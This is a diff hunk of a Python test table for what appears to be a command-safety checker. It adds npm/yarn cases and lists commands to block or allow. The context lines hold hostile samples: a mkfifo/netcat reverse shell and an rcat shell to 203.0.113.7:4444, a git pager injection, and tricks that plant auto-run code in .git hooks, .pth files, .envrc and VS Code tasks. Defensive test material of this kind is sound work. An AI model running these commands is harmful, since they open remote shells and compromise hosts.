@@ -151,6 +151,8 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
                    "cd / && python3 -m http.server"], ["python3 -m http.server 8000 --directory docs"]),
     "SHELL-008": (["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
                    "rcat connect -s bash 203.0.113.7 4444"], ["make 2>&1 | tee build.log"]),
+    "EXEC-006": (['cd "$d" && npm run db:reset', "npm --prefix $P run build", "cd /srv/x && yarn run reset"],
+                 ["npm run build", "npm install", "npm ci"]),
     "EXEC-004": (["git -c core.pager='less \"' log"], ["git -c core.pager=less log"]),
     "HOSTEXEC-001": (["cp -r hooks .git/", "echo 'import os' > .venv/lib/python3.11/site-packages/x.pth",
                       "cat > .envrc <<EOF\necho hi\nEOF", "cp tasks.json .vscode/", "cp x.pyc __pycache__/",
